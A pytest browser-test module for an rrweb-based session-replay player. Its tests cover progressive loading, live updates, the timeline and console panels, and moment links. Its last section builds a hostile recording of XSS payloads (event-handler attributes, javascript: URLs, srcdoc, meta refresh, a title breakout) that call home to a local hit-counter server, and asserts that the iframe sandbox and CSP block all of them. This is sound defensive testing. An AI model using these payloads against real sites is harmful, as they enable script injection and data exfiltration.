"""The player page in real Chromium against a real Replay server: progressive start, live sessions,
hostile recordings, the timeline, the console panel and links to a moment.

One in-process server per module; each test signs a fresh browser context in through the form.
Recordings are built here as rrweb events (rrweb-snapshot's serialized node format), so what the
page must show is known without reading our own summary code.
"""

from __future__ import annotations

import asyncio
import threading
import time
from urllib.parse import urlparse

import pytest
from aiohttp import web

from harness import fetch_events, post_batch, start_test_server
from signin import signed_in_page

pytestmark = pytest.mark.browser

IFRAME = ".replayer-wrapper iframe"
IFRAME_TEXT = f"() => document.querySelector('{IFRAME}')?.contentDocument?.body?.innerText || ''"


# -- recordings ----------------------------------------------------------------------------------

class Dom:
    """Builds rrweb-snapshot serialized nodes with fresh ids."""

    def __init__(self) -> None:
        self.next_id = 1

    def _id(self) -> int:
        self.next_id += 1
        return self.next_id - 1

    def el(self, tag: str, attrs: dict | None = None, *children: dict, svg: bool = False) -> dict:
        node = {"type": 2, "tagName": tag, "attributes": attrs or {}, "childNodes": list(children), "id": self._id()}
        if svg:
            node["isSVG"] = True
        return node

    def text(self, value: str) -> dict:
        return {"type": 3, "textContent": value, "id": self._id()}

    def document(self, head: list[dict], body: dict) -> dict:
        doctype = {"type": 1, "name": "html", "publicId": "", "systemId": "", "id": self._id()}
        doc_id = self._id()
        html = self.el("html", {}, self.el("head", {}, *head), body)
        return {"type": 0, "childNodes": [doctype, html], "id": doc_id}


def adds(parent_id: int, node: dict) -> list[dict]:
    """A mutation's ``adds`` for a subtree: rrweb sends each node on its own, children after parents."""
    children = node.get("childNodes", [])
    out = [{"parentId": parent_id, "nextId": None, "node": {**node, "childNodes": []} if children else node}]
    for child in children:
        out += adds(node["id"], child)
    return out


def meta(ts: int, href: str = "https://app.example/page") -> dict:
    return {"type": 4, "timestamp": ts, "data": {"href": href, "width": 1024, "height": 640}}


def full_snapshot(ts: int, node: dict) -> dict:
    return {"type": 2, "timestamp": ts, "data": {"node": node, "initialOffset": {"top": 0, "left": 0}}}


def mutation(ts: int, adds=(), texts=(), attributes=()) -> dict:
    return {"type": 3, "timestamp": ts, "data": {"source": 0, "adds": list(adds), "removes": [],
                                                 "texts": list(texts), "attributes": list(attributes)}}


def mouse_move(ts: int, x: int, y: int, node_id: int) -> dict:
    return {"type": 3, "timestamp": ts, "data": {"source": 1, "positions": [
        {"x": x + k, "y": y + k, "id": node_id, "timeOffset": -40 * k} for k in range(5)]}}


def click(ts: int, node_id: int) -> dict:
    return {"type": 3, "timestamp": ts, "data": {"source": 2, "type": 2, "id": node_id, "x": 5, "y": 5}}


def console_error(ts: int, *payload: str) -> dict:
    import json
    return {"type": 6, "timestamp": ts, "data": {"plugin": "rrweb/console@1", "payload": {
        "level": "error", "payload": [json.dumps(p) for p in payload], "trace": []}}}


def custom(ts: int, tag: str, payload: dict) -> dict:
    return {"type": 5, "timestamp": ts, "data": {"tag": tag, "payload": payload}}


# -- fixtures ------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def replay(tmp_path_factory):
    server = start_test_server(tmp_path_factory.mktemp("player") / "data")
    yield server
    server.stop()


@pytest.fixture(scope="module")
def project(replay):
    return replay.create_project("player")


def signed_in(browser, replay, project, **context_options):
    return signed_in_page(browser, replay.url, project.api_key, **context_options)


def open_player(page, replay, project, session_id: str, query: str = "") -> None:
    page.goto(f"{replay.url}/projects/{project.id}/sessions/{session_id}{query}")
    page.wait_for_function("() => window.__replay && window.__replay.done", timeout=60_000)
    assert page.evaluate("window.__replay.error") is None


# -- progressive start ---------------------------------------------------------------------------

def test_an_hour_long_session_starts_playing_before_it_has_loaded(browser, replay, project):
    dom = Dom()
    counter = dom.text("0")
    board = dom.el("div", {"id": "board"}, dom.el("p", {"id": "counter"}, counter))
    body = dom.el("body", {}, board)
    start = int(time.time() * 1000) - 3 * 3600 * 1000  # long over: no live polling in this test
    minute = 60_000
    batches = []
    for m in range(60):
        events = [meta(start), full_snapshot(start + 1, dom.document([], body))] if m == 0 else []
        for k in range(240):  # a mouse move every 250 ms
            ts = start + m * minute + 250 * k + 10
            events.append(mouse_move(ts, (k * 7) % 900, (k * 3) % 600, board["id"]))
        for k in range(6):  # the counter changes every 10 s
            events.append(mutation(start + m * minute + 10_000 * k + 5, texts=[{"id": counter["id"], "value": f"{m}:{k}"}]))
        events.sort(key=lambda e: e["timestamp"])
        batches.append(events)
    last = start + 60 * minute - 1
    batches[-1].append(mutation(last, texts=[{"id": counter["id"], "value": "the end"}]))
    for m, events in enumerate(batches):
        assert post_batch(replay.url, project.token, "hour", events, batch_id=f"m{m}", distinct_id="hour@example.com").status_code == 200
        if m % 5 == 4:
            replay.flush()  # twelve batch objects
    total = sum(len(b) for b in batches)

    with signed_in(browser, replay, project) as page:
        # A real network, not loopback: at 512 KB/s the hour's events take seconds to arrive, so
        # "playing before it has loaded" does not depend on how busy the test machine's CPUs are.
        cdp = page.context.new_cdp_session(page)
        cdp.send("Network.enable")
        cdp.send("Network.emulateNetworkConditions",
                 {"offline": False, "latency": 20, "downloadThroughput": 512 * 1024, "uploadThroughput": -1})
        open_player(page, replay, project, "hour")
        state = page.evaluate("window.__replay")
        assert state["eventsLoaded"] == total
        # The first frame was on screen when only part of the hour had arrived.
        assert state["eventsAtFirstFrame"] is not None and 2 <= state["eventsAtFirstFrame"] < total // 2, state
        assert state["totalTime"] == last - start
        assert page.evaluate(IFRAME_TEXT).strip() != ""  # the snapshot is rendered
        # Opening the very end shows the last mutation: every block made it into the player.
        page.goto(f"{replay.url}/projects/{project.id}/sessions/hour?t={last - start + 1}")
        page.wait_for_function("() => window.__replay && window.__replay.startedAt !== null", timeout=60_000)
        page.wait_for_function(f"() => ({IFRAME_TEXT})().includes('the end')", timeout=10_000)
        assert page.errors == []


# -- live ----------------------------------------------------------------------------------------

def test_a_session_still_recording_shows_new_events_live(browser, replay, project):
    dom = Dom()
    log = dom.el("ul", {"id": "log"})
    body = dom.el("body", {}, dom.el("h1", {}, dom.text("Live page")), log)
    now = int(time.time() * 1000)
    first = [meta(now - 4000), full_snapshot(now - 3999, dom.document([], body)), mouse_move(now - 3000, 5, 5, log["id"])]
    assert post_batch(replay.url, project.token, "live", first, batch_id="l0").status_code == 200

    def add_line(text: str) -> list[dict]:
        ts = int(time.time() * 1000)
        li = dom.el("li", {}, dom.text(text))
        return [mutation(ts, adds=adds(log["id"], li)), mouse_move(ts + 1, 9, 9, log["id"])]

    with signed_in(browser, replay, project) as page:
        open_player(page, replay, project, "live")
        assert page.evaluate("window.__replay.eventsLoaded") == 3
        assert page.is_hidden("#live-status")

        second = add_line("first live line")
        assert post_batch(replay.url, project.token, "live", second, batch_id="l1").status_code == 200
        page.wait_for_function(f"() => ({IFRAME_TEXT})().includes('first live line')", timeout=20_000)
        assert page.is_visible("#live-status")

        # Stored now (a flush), then more arrives in the spool: both sources, still each event once.
        replay.flush()
        third = add_line("second live line")
        assert post_batch(replay.url, project.token, "live", third, batch_id="l2").status_code == 200
        assert post_batch(replay.url, project.token, "live", second, batch_id="l1").status_code == 200  # a retry
        page.wait_for_function(f"() => ({IFRAME_TEXT})().includes('second live line')", timeout=20_000)
        polls = page.evaluate("window.__replay.polls")
        page.wait_for_function(f"() => window.__replay.polls >= {polls + 2}", timeout=20_000)  # re-sent overlaps
        expected = len(fetch_events(replay.url, project, "live"))
        assert expected == 7
        assert page.evaluate("window.__replay.eventsLoaded") == expected
        assert page.evaluate("window.__replay.liveEventsAdded") == 4
        text = page.evaluate(IFRAME_TEXT)
        assert text.count("first live line") == 1 and text.count("second live line") == 1
        assert page.errors == []


# -- timeline, console, moments ------------------------------------------------------------------

def test_timeline_and_console_list_what_happened_and_seek_there(browser, replay, project):
    dom = Dom()
    status = dom.text("status: new")
    button = dom.el("button", {"id": "buy"}, dom.text("Buy now"))
    body = dom.el("body", {}, dom.el("p", {"id": "status"}, status), button)
    t0 = int(time.time() * 1000) - 3600_000
    events = [meta(t0, "https://shop.example/cart"), full_snapshot(t0 + 1, dom.document([], body)),
              click(t0 + 2000, button["id"]),
              mutation(t0 + 2100, texts=[{"id": status["id"], "value": "status: paying"}]),
              custom(t0 + 3000, "checkout", {"step": 2}),
              console_error(t0 + 4000, "<b>payment failed</b>", "code 402"),
              mutation(t0 + 4100, texts=[{"id": status["id"], "value": "status: failed"}]),
              meta(t0 + 8000, "https://shop.example/help"),
              mouse_move(t0 + 9000, 1, 1, button["id"])]
    assert post_batch(replay.url, project.token, "timeline", events, batch_id="t").status_code == 200
    with signed_in(browser, replay, project) as page:
        open_player(page, replay, project, "timeline")
        entries = page.eval_on_selector_all("#timeline li", "els => els.map(e => [e.className, e.innerText])")
        kinds = [cls.split()[1] for cls, _ in entries]
        assert kinds == ["page", "click", "custom", "error", "page"], entries
        assert "button#buy “Buy now”" in entries[1][1] and "0:02" in entries[1][1]
        assert "https://shop.example/help" in entries[4][1] and "0:08" in entries[4][1]
        console = page.inner_text("#console")
        assert "<b>payment failed</b> code 402" in console  # shown as text
        assert page.eval_on_selector_all("#console b, #timeline b", "els => els.length") == 0

        # Clicking an entry seeks there: just after the click, the status is "paying".
        page.click("#timeline li.click button")
        page.wait_for_function(f"() => ({IFRAME_TEXT})().includes('status: paying')", timeout=10_000)
        page.click("#timeline li.error button")
        page.wait_for_function(f"() => ({IFRAME_TEXT})().includes('status: failed')", timeout=10_000)

        # The link to the current moment opens the player at that moment.
        page.click(".rr-controller__btns button")  # pause wherever it is
        page.click("#copy-link")
        link = page.input_value("#moment-link")
        t = int(link.split("?t=")[1])
        assert link.startswith(f"{replay.url}/projects/{project.id}/sessions/timeline?t=")
        page.goto(f"{replay.url}/projects/{project.id}/sessions/timeline?t=2500")
        page.wait_for_function("() => window.__replay && window.__replay.startedAt === 2500", timeout=10_000)
        page.wait_for_function(f"() => ({IFRAME_TEXT})().includes('status: paying')", timeout=10_000)
        time.sleep(0.5)
        assert "status: paying" in page.evaluate(IFRAME_TEXT)  # paused there, not playing on
        assert 0 <= t <= 9000
        metadata = page.inner_text("#metadata")
        assert "https://shop.example/cart" in metadata and "https://shop.example/help" in metadata
        assert "1024 × 640" in metadata
        assert page.errors == []


# -- hostile recordings --------------------------------------------------------------------------

class HitCounter:
    """A server on another port that a replayed script would call home to; counts every request."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.loop = asyncio.new_event_loop()
        self.url = ""

    async def _hit(self, request: web.Request) -> web.Response:
        self.hits.append(request.path_qs)
        return web.Response(text="ok", headers={"Access-Control-Allow-Origin": "*"})

    def __enter__(self) -> "HitCounter":
        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", self._hit)
        started = threading.Event()

        async def start():
            self.runner = web.AppRunner(app)
            await self.runner.setup()
            site = web.TCPSite(self.runner, "127.0.0.1", 0)
            await site.start()
            self.url = f"http://127.0.0.1:{self.runner.addresses[0][1]}"
            started.set()

        self.thread = threading.Thread(target=lambda: (self.loop.run_until_complete(start()), self.loop.run_forever()),
                                       daemon=True)
        self.thread.start()
        assert started.wait(10)
        return self

    def __exit__(self, *exc) -> None:
        asyncio.run_coroutine_threadsafe(self.runner.cleanup(), self.loop).result(10)
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(10)


def payload(exfil: str, tag: str) -> str:
    """What an attacker's recorded markup runs if it can: flag every window it can reach, call home."""
    return (f"try{{top.__pwned='{tag}'}}catch(e){{}}try{{parent.__pwned='{tag}'}}catch(e){{}}window.__pwned='{tag}';"
            f"fetch('/pwned/{tag}');fetch('{exfil}/hit/{tag}',{{mode:'no-cors'}});new Image().src='{exfil}/img/{tag}';")


def hostile_recording(exfil: str, start: int) -> list[dict]:
    dom = Dom()
    p = lambda tag: payload(exfil, tag)  # noqa: E731
    bad_png = "data:image/png;base64,AAAA"
    target = dom.el("img", {"id": "later", "src": bad_png})
    container = dom.el("div", {"id": "container"})
    body = dom.el("body", {"onload": p("body-onload")},
                  dom.el("h1", {}, dom.text("hostile page")),
                  dom.el("script", {}, dom.text(p("script"))),
                  dom.el("img", {"src": bad_png, "onerror": p("img-onerror")}),
                  dom.el("svg", {"onload": p("svg-onload")}, dom.el("script", {}, dom.text(p("svg-script")), svg=True), svg=True),
                  dom.el("iframe", {"srcdoc": f"<script>{p('srcdoc')}</script>", "src": f"javascript:{p('iframe-src')}"}),
                  dom.el("a", {"id": "jslink", "href": f"javascript:{p('a-href')}"}, dom.text("click me")),
                  dom.el("form", {"action": f"javascript:{p('form-action')}"},
                         dom.el("input", {"autofocus": "", "onfocus": p("input-onfocus")})),
                  dom.el("details", {"open": "", "ontoggle": p("details-ontoggle")}, dom.el("summary", {}, dom.text("x"))),
                  dom.el("object", {"data": f"javascript:{p('object-data')}"}),
                  dom.el("embed", {"src": f"javascript:{p('embed-src')}"}),
                  dom.el("video", {}, dom.el("source", {"onerror": p("source-onerror")})),
                  target, container)
    head = [dom.el("meta", {"http-equiv": "refresh", "content": f"0;url=javascript:{p('meta-refresh')}"}),
            dom.el("script", {"src": f"{exfil}/hit/script-src"}),
            dom.el("title", {}, dom.text("</title><script>" + p("title") + "</script>"))]
    snapshot = full_snapshot(start + 1, dom.document(head, body))
    added_script = dom.el("script", {}, dom.text(p("added-script")))
    added_img = dom.el("img", {"src": bad_png, "onerror": p("added-img")})
    added_frame = dom.el("iframe", {"srcdoc": f"<img src=x onerror=\"{p('added-srcdoc')}\">"})
    marker = dom.el("p", {"id": "marker"}, dom.text("hostile-end-marker"))
    return [
        meta(start, f"javascript:{p('meta-href')}"), snapshot,
        click(start + 100, body["childNodes"][5]["id"]),  # the javascript: link
        mutation(start + 200, adds=[a for n in (added_script, added_img, added_frame) for a in adds(container["id"], n)]),
        mutation(start + 300, attributes=[{"id": target["id"], "attributes": {"onerror": p("attr-onerror"), "src": "data:image/png;base64,BBBB"}},
                                          {"id": body["childNodes"][5]["id"], "attributes": {"href": f"javascript:{p('attr-href')}"}}]),
        console_error(start + 400, f"<img src=x onerror=\"{p('console')}\">"),
        custom(start + 500, "<img src=x onerror=alert(1)>", {"html": f"<script>{p('custom')}</script>"}),
        mutation(start + 600, adds=adds(container["id"], marker)),
    ]


@pytest.mark.parametrize("csp", ["with-csp", "sandbox-alone"])
def test_a_hostile_recording_runs_no_script_when_replayed(browser, replay, project, csp):
    with HitCounter() as exfil:
        session_id = f"hostile-{csp}"
        events = hostile_recording(exfil.url, int(time.time() * 1000) - 3600_000)
        r = post_batch(replay.url, project.token, session_id, events, batch_id="h")
        assert r.status_code == 200, r.text
        # bypass_csp: the page's CSP is ignored, so the iframe's sandbox alone must stop everything.
        with signed_in(browser, replay, project, bypass_csp=(csp == "sandbox-alone")) as page:
            requests_seen: list[str] = []
            page.on("request", lambda r: requests_seen.append(r.url))
            response = page.goto(f"{replay.url}/projects/{project.id}/sessions/{session_id}")
            assert "script-src 'self'" in response.headers["content-security-policy"]
            page.wait_for_function("() => window.__replay && window.__replay.done", timeout=30_000)
            page.wait_for_function(f"() => ({IFRAME_TEXT})().includes('hostile-end-marker')", timeout=10_000)
            time.sleep(1.5)  # time for anything that was going to fire (onerror, refresh, focus) to fire
            sandbox = page.get_attribute(IFRAME, "sandbox")
            assert sandbox is not None and "allow-scripts" not in sandbox.split()
            flags = page.evaluate("""() => {
                const out = [window.__pwned];
                const visit = (w) => { try { out.push(w.__pwned); for (let i = 0; i < w.frames.length; i++) visit(w.frames[i]); } catch (e) {} };
                visit(document.querySelector('.replayer-wrapper iframe').contentWindow);
                return out.filter((x) => x !== undefined);
            }""")
            assert flags == []
            assert [u for u in requests_seen if "/pwned" in u or u.startswith(exfil.url)] == []
            assert exfil.hits == []
            assert page.eval_on_selector_all("#console img, #timeline img, #metadata img", "els => els.length") == 0
            assert "onerror" in page.inner_text("#console")  # shown, as text
            if csp == "sandbox-alone":
                # The counter works, and without CSP this page itself could reach it: only the sandbox held.
                page.evaluate(f"() => fetch('{exfil.url}/control', {{mode: 'no-cors'}})")
                deadline = time.monotonic() + 5
                while not exfil.hits and time.monotonic() < deadline:
                    time.sleep(0.05)
                assert exfil.hits == ["/control"]
            assert urlparse(page.url).path.endswith(session_id)
